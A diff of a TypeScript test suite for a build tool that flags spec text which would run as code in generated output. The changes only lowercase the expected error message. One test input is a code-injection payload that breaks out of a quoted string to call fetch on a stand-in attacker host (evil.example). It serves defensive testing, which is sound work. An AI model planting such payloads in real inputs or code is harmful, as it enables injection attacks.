@@ -35,7 +35,7 @@ describe('where an escaper is missing, the build fails at the place of the text 
     expect(messages.length).toBeGreaterThan(0);
     for (const message of messages)
       expect(message).toMatch(
-        /^spec\.yaml:3:10 error code-injection: This text would run as code in src\/a\.ts:\d+ \(/,
+        /^spec\.yaml:3:10 error code-injection: this text would run as code in src\/a\.ts:\d+ \(/,
       );
   });
 });
@@ -52,7 +52,7 @@ describe('where the output does not even parse, the build fails', () => {
     const [message, ...others] = await buildWithout(text, body);
     expect(others).toEqual([]);
     expect(message).toMatch(
-      /^spec\.yaml:3:10 error code-injection: This text would run as code in src\/a\.ts:\d+ \(does not parse: .+\)/,
+      /^spec\.yaml:3:10 error code-injection: this text would run as code in src\/a\.ts:\d+ \(does not parse: .+\)/,
     );
   });
 
@@ -65,7 +65,7 @@ describe('where the output does not even parse, the build fails', () => {
 
 describe('text that became code is found', () => {
   const becameCode = (line: number, reason: string): string =>
-    `spec.yaml:3:10 error code-injection: This text would run as code in src/a.ts:${line} (${reason}); please report it`;
+    `spec.yaml:3:10 error code-injection: this text would run as code in src/a.ts:${line} (${reason}); please report it`;
 
   test('where it is written with other quotes and spaces', async () => {
     const title = "a '; fetch('https://evil.example'); '";
